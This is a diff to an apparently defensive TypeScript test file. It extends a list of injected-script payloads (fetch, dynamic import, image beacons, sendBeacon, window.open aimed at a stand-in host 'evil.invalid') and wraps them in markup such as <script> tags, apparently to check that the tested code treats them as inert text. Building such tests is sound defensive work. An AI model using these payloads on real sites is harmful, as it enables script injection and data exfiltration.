@@ -1,7 +1,17 @@
 import type { Draft, Event } from '#record'
 
 /** Each of these would call `hit` or ask another host, were it ever taken for more than text. */
-const actions = ['globalThis.__hit=1', 'alert(1)', "fetch('https://evil.invalid/x')", 'location=`https://evil.invalid`']
+const actions = [
+  'globalThis.__hit=1',
+  'alert(1)',
+  "fetch('https://evil.invalid/x')",
+  'location=`https://evil.invalid`',
+  "import('https://evil.invalid/x.js')",
+  "new Image().src='https://evil.invalid/i.png'",
+  "navigator.sendBeacon('https://evil.invalid/b')",
+  "open('https://evil.invalid/')",
+  'document.forms[0].submit(globalThis.__hit=2)',
+]
 
 const shapes: readonly ((action: string) => string)[] = [
   (act) => `<script>${act}</script>`,
